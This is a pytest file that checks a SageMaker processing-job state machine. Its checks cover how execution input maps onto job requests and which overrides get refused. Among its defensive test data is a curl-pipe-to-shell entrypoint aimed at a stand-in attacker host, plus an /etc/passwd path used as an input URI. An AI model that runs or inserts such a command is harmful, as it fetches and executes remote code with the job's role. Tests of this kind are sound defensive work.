"""The generic workflow: the original pattern's execution input, evaluated in moto's interpreter."""

from __future__ import annotations

import json

import pytest

from tests.workflow.asl_evaluation import evaluated_requests
from tests.workflow.asl_validation import assert_valid_asl
from tests.workflow.conftest import FRAMEWORK_IMAGE, GENERIC_ROLE_ARN, base_vars

BUCKET = "s3://team-bucket/legacycode"
SKLEARN_IMAGE = "141502667606.dkr.ecr.eu-west-1.amazonaws.com/sagemaker-scikit-learn:0.23-1-cpu-py3"
ORIGINAL_INPUT = {
    "PreProcessing": {
        "ProcessingJobName": "sm-pre-job-0211-1156",
        "InputUri": {"S3Uri": f"{BUCKET}/data/preproc/input/"},
        "OutputUri": {"S3Uri": f"{BUCKET}/data/predict/input/"},
        "CodeUri": {"S3Uri": f"{BUCKET}/scripts/"},
        "InstanceType": "ml.m5.xlarge",
        "VolumeSizeInGB": 20,
        "MaxRuntimeInSeconds": 3600,
        "ImageUri": SKLEARN_IMAGE,
        "RoleArn": GENERIC_ROLE_ARN,
    },
    "Inference": {
        "ProcessingJobName": "sm-inf-job-0211-1156",
        "InputUri": {"S3Uri": f"{BUCKET}/data/predict/input/"},
        "OutputUri": {"S3Uri": f"{BUCKET}/data/postproc/input/"},
        "InstanceType": "ml.c5.2xlarge",
        "VolumeSizeInGB": 40,
        "MaxRuntimeInSeconds": 7200,
        "ImageUri": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/sagemakerstudio:latest",
        "RoleArn": GENERIC_ROLE_ARN,
    },
    "PostProcessing": {
        "ProcessingJobName": "sm-post-job-0211-1156",
        "InputUri": {"S3Uri": f"{BUCKET}/data/postproc/input/"},
        "OutputUri": {"S3Uri": f"{BUCKET}/data/postproc/output/"},
        "CodeUri": {"S3Uri": f"{BUCKET}/scripts/"},
        "InstanceType": "ml.m5.large",
        "VolumeSizeInGB": 10,
        "MaxRuntimeInSeconds": 600,
        "ImageUri": SKLEARN_IMAGE,
        "RoleArn": GENERIC_ROLE_ARN,
    },
}


@pytest.fixture(scope="module")
def generic(workflow):
    outputs = workflow.render(base_vars({}, enable_generic_workflow=True))
    return outputs, json.loads(outputs["generic_definition"])


def run(generic, execution_input) -> dict:
    result = evaluated_requests(generic[1], execution_input, "generic-run")
    assert result["status"] == "SUCCEEDED", result
    return result["output"]["Results"]


def test_generic_definition_is_valid_asl(generic):
    assert_valid_asl(generic[0]["generic_definition"])
    assert generic[0]["generic_state_machine_name"] == "legacylift-dev--generic"


def test_original_pattern_input_maps_onto_every_request(generic):
    results = run(generic, ORIGINAL_INPUT)
    assert list(results) == ["PreProcessing", "Inference", "PostProcessing"]
    prefix = generic[0]["generic_job_name_prefix"]
    for key, request in results.items():
        given = ORIGINAL_INPUT[key]
        assert request["ProcessingJobName"] == prefix + given["ProcessingJobName"]
        assert request["RoleArn"] == given["RoleArn"]
        assert request["AppSpecification"]["ImageUri"] == given["ImageUri"]
        cluster = request["ProcessingResources"]["ClusterConfig"]
        assert (cluster["InstanceType"], cluster["VolumeSizeInGB"]) == (
            given["InstanceType"],
            given["VolumeSizeInGB"],
        )
        assert request["StoppingCondition"]["MaxRuntimeInSeconds"] == given["MaxRuntimeInSeconds"]
        inputs = {i["InputName"]: i["S3Input"]["S3Uri"] for i in request["ProcessingInputs"]}
        assert inputs["data"] == given["InputUri"]["S3Uri"]
        assert inputs.get("code") == given.get("CodeUri", {}).get("S3Uri")
        output = request["ProcessingOutputConfig"]["Outputs"][0]["S3Output"]
        assert output["S3Uri"] == given["OutputUri"]["S3Uri"]
        assert output["S3UploadMode"] == "EndOfJob"
    assert results["PreProcessing"]["AppSpecification"]["ContainerEntrypoint"] == [
        "python3",
        "/opt/ml/processing/input/code/preprocessing.py",
    ]


def test_omitted_keys_fall_back_to_module_defaults(generic):
    minimal = {
        "PreProcessing": {
            "ProcessingJobName": "pre-1",
            "InputUri": {"S3Uri": f"{BUCKET}/in/"},
            "OutputUri": {"S3Uri": f"{BUCKET}/mid/"},
            "CodeUri": {"S3Uri": f"{BUCKET}/scripts/"},
        }
    }
    (request,) = run(generic, minimal).values()
    assert request["AppSpecification"]["ImageUri"] == FRAMEWORK_IMAGE
    assert request["RoleArn"] == GENERIC_ROLE_ARN
    assert request["ProcessingResources"]["ClusterConfig"]["InstanceType"] == "ml.m5.xlarge"
    assert request["ProcessingResources"]["ClusterConfig"]["VolumeSizeInGB"] == 30
    assert request["StoppingCondition"]["MaxRuntimeInSeconds"] == 3600  # the pattern's default


def test_a_single_step_input_runs_a_single_step(generic):
    only_inference = {"Inference": ORIGINAL_INPUT["Inference"]}
    assert list(run(generic, only_inference)) == ["Inference"]


def test_empty_input_fails_clearly(generic):
    result = evaluated_requests(generic[1], {}, "empty")
    assert (result["status"], result["error"]) == ("FAILED", "LegacyLift.InvalidInput")


def refused(generic, execution_input) -> str:
    """The Cause of a run refused as LegacyLift.InvalidInput (fails the test otherwise)."""
    result = evaluated_requests(generic[1], execution_input, "refused")
    assert (result["status"], result["error"]) == ("FAILED", "LegacyLift.InvalidInput"), result
    return result["cause"]


@pytest.mark.parametrize(
    "key, value",
    [
        ("ContainerEntrypoint", ["sh", "-c", "curl http://attacker/ | sh"]),
        ("EnableNetworkIsolation", False),
    ],
)
def test_an_input_setting_the_entrypoint_or_network_is_refused(generic, key, value):
    """The entrypoint and network isolation are Terraform's: an execution input may not run
    another command as the execution role, nor with internet. (Planted bug: dropping the
    template's refusal of these keys turns this red: the run succeeds.)"""
    for step in ORIGINAL_INPUT:
        tampered = {step: {**ORIGINAL_INPUT[step], key: value}}
        assert key in refused(generic, tampered)


def test_the_requests_keep_the_fixed_entrypoint_and_isolation(generic):
    for key, request in run(generic, ORIGINAL_INPUT).items():
        assert request["NetworkConfig"] == {"EnableNetworkIsolation": True}
        script = {"PreProcessing": "preprocessing", "Inference": "predict"}.get(
            key, "postprocessing"
        )
        folder = "/opt/ml/code" if key == "Inference" else "/opt/ml/processing/input/code"
        assert request["AppSpecification"]["ContainerEntrypoint"] == [
            "python3",
            f"{folder}/{script}.py",
        ]


@pytest.mark.parametrize(
    "change",
    [
        {"InstanceType": "m5.xlarge"},
        {"VolumeSizeInGB": 0},
        {"VolumeSizeInGB": "20"},
        {"MaxRuntimeInSeconds": 777601},
        {"InputUri": {"S3Uri": "/etc/passwd"}},
        {"OutputUri": {"S3Uri": 7}},
        {"CodeUri": {"S3Uri": "https://example.com/x.py"}},
        {"RoleArn": ["arn:aws:iam::123456789012:role/x"]},
    ],
    ids=lambda change: next(iter(change)),
)
def test_other_overrides_are_validated(generic, change):
    refused(generic, {"PreProcessing": {**ORIGINAL_INPUT["PreProcessing"], **change}})


def test_inference_needs_its_image(generic):
    without_image = {k: v for k, v in ORIGINAL_INPUT["Inference"].items() if k != "ImageUri"}
    refused(generic, {"Inference": without_image})


def test_overrides_only_where_terraform_allows_them(workflow):
    outputs = workflow.render(
        base_vars(
            {},
            enable_generic_workflow=True,
            generic_allow_entrypoint_override=True,
            generic_allow_network_override=True,
        )
    )
    definition = json.loads(outputs["generic_definition"])
    entrypoint = ["python3", "/opt/ml/processing/input/code/other.py"]
    step = {**ORIGINAL_INPUT["PreProcessing"], "ContainerEntrypoint": entrypoint}
    step["EnableNetworkIsolation"] = False
    result = evaluated_requests(definition, {"PreProcessing": step}, "allowed")
    assert result["status"] == "SUCCEEDED", result
    request = result["output"]["Results"]["PreProcessing"]
    assert request["AppSpecification"]["ContainerEntrypoint"] == entrypoint
    assert request["NetworkConfig"] == {"EnableNetworkIsolation": False}
